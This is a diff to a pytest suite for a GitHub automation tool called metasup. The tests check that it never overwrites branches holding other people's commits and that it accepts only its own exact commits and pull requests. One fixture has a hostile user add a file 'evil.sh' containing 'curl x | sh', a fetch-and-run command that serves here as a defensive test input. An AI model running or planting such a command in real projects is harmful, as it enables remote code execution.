@@ -7,6 +7,7 @@ import pytest
 from fakegithub import ACTIONS_TOKEN, PAT_TOKEN, FakeGitHub, Repo, RequestInfo
 
 from metasup.github import (
+    BranchNotOurs,
     GitHubClient,
     GitHubUnavailable,
     HeadMoved,
@@ -17,6 +18,7 @@ from metasup.github import (
     commit_change,
     connect,
     fit_body,
+    is_exact_change,
     list_pull_facts,
     merge_pull,
     open_or_find_pull,
@@ -51,8 +53,50 @@ def client(fake: FakeGitHub, token: str = PAT_TOKEN, budget: float = 120.0) -> t
 def promote_branch(gh: GitHubClient, fake: FakeGitHub, agent: str = "alpha") -> tuple[str, str]:
     branch = f"metasup/promote/{agent}"
     sha = commit_change(gh, REPO, fake.ref_sha(REPO, "main"), "agents.yaml", f"{agent}: prod\n", "m")
-    point_branch(gh, REPO, branch, sha)
+    point_branch(gh, REPO, branch, sha, lambda head: False)  # a new branch: nothing to replace
     return branch, sha
+
+
+# -- 0. metasup's own commits and branches ----------------------------------------------------------
+
+
+def test_point_branch__never_moves_a_branch_from_a_commit_metasup_did_not_write(
+    fake_github: FakeGitHub, fake_repo: Repo
+) -> None:
+    gh, _ = client(fake_github)
+    branch, first = promote_branch(gh, fake_github)
+    bobs = fake_github.commit_files(REPO, branch, {"agents.yaml": "alpha: prod\nbob: fix\n"}, user="bob")
+    mine = commit_change(gh, REPO, fake_github.ref_sha(REPO, "main"), "agents.yaml", "alpha: prod\n", "again")
+
+    with pytest.raises(BranchNotOurs, match=f"holds commit {bobs[:12]}, which metasup did not write"):
+        point_branch(gh, REPO, branch, mine, lambda head: head == first)
+    assert fake_github.ref_sha(REPO, branch) == bobs  # bob's work stays
+
+    point_branch(gh, REPO, branch, mine, lambda head: head in (first, bobs))
+    assert fake_github.ref_sha(REPO, branch) == mine
+
+
+def test_is_exact_change__only_the_parent_with_those_files_and_nothing_else(
+    fake_github: FakeGitHub, fake_repo: Repo
+) -> None:
+    gh, _ = client(fake_github)
+    main = fake_github.ref_sha(REPO, "main")
+    change = {"agents.yaml": "alpha: prod\n"}
+    mine = commit_change(gh, REPO, main, "agents.yaml", change["agents.yaml"], "metasup's message")
+    assert is_exact_change(gh, REPO, mine, main, change)
+
+    fake_github.create_branch(REPO, "mallory")
+    extra = fake_github.commit_files(REPO, "mallory", {**change, "evil.sh": "curl x | sh\n"}, user="mallory")
+    assert not is_exact_change(gh, REPO, extra, main, change)  # one file more
+    other_text = fake_github.commit_files(REPO, "mallory", {"agents.yaml": "alpha: prod \n"}, user="mallory")
+    assert not is_exact_change(gh, REPO, other_text, extra, change)  # the file differs
+    later = fake_github.commit_files(REPO, "main", {"README.md": "# changed\n"})
+    assert not is_exact_change(gh, REPO, mine, later, change)  # another parent
+    same_tree = fake_github.commit_files(REPO, "mallory", {"evil.sh": None, **change}, user="mallory")
+    assert fake_github.client().get_repo(REPO).get_git_commit(same_tree).tree.sha == (
+        fake_github.client().get_repo(REPO).get_git_commit(mine).tree.sha
+    )
+    assert not is_exact_change(gh, REPO, same_tree, main, change)  # the right tree, three commits on
 
 
 # -- 1. merging sends sha ----------------------------------------------------------------------------
@@ -132,17 +176,18 @@ def test_pull_facts__tell_metasups_pr_from_forks_other_bots_and_moved_heads(
     mine = facts[ours]
     assert (mine.author_login, mine.author_type, mine.head_sha) == ("github-actions[bot]", "Bot", sha)
     assert mine.head_repo_full_name == mine.base_repo_full_name == REPO
-    assert mine.is_metasups(login, sha)
+    assert mine.is_metasups(login, sha, "main")
     assert facts[fork].head_repo_full_name == "alice/fleet"
-    assert not facts[fork].is_metasups(login, facts[fork].head_sha)
+    assert not facts[fork].is_metasups(login, facts[fork].head_sha, "main")
     assert facts[other_bot].author_login == "renovate[bot]"
     assert facts[other_bot].author_type == "Bot"
-    assert not facts[other_bot].is_metasups(login, facts[other_bot].head_sha)
-    assert not mine.is_metasups(login, None)  # nothing recorded: not provably ours
+    assert not facts[other_bot].is_metasups(login, facts[other_bot].head_sha, "main")
+    assert not mine.is_metasups(login, None, "main")  # nothing recorded: not provably ours
+    assert not mine.is_metasups(login, sha, "release")  # opened into another branch: not ours
 
     fake_github.push_to_pull(REPO, ours, {"agents.yaml": "alpha: prod\nx: prod\n"}, user="bob")
     (moved,) = [f for f in list_pull_facts(gh, REPO, ("metasup/promote/",)) if f.state.number == ours]
-    assert not moved.is_metasups(login, sha)
+    assert not moved.is_metasups(login, sha, "main")
 
 
 # -- 3. comments -------------------------------------------------------------------------------------
@@ -339,7 +384,7 @@ def test_open_pull__an_existing_pr_for_the_branch_is_returned(
     again = open_or_find_pull(gh, REPO, branch, "main", "[AUTO-PROMOTE] alpha", "body", "auto-promote")
     assert (again.number, again.created) == (first, False)
     assert again.facts is not None
-    assert again.facts.is_metasups(own_login(gh), sha)
+    assert again.facts.is_metasups(own_login(gh), sha, "main")
     with pytest.raises(PullAlreadyExists) as caught:
         open_pull(gh, REPO, branch, "main", "[AUTO-PROMOTE] alpha", "body", "auto-promote")
     assert caught.value.existing is not None
@@ -356,7 +401,7 @@ def test_open_pull__someone_elses_pr_on_the_branch_is_returned_as_not_ours(
     found = open_or_find_pull(gh, REPO, "metasup/promote/alpha", "main", "t", "b", "auto-promote")
     assert (found.number, found.created) == (theirs, False)
     assert found.facts is not None
-    assert not found.facts.is_metasups(own_login(gh), found.facts.head_sha)
+    assert not found.facts.is_metasups(own_login(gh), found.facts.head_sha, "main")
     assert fake_github.issue(REPO, theirs).labels == []  # not labelled
 
 
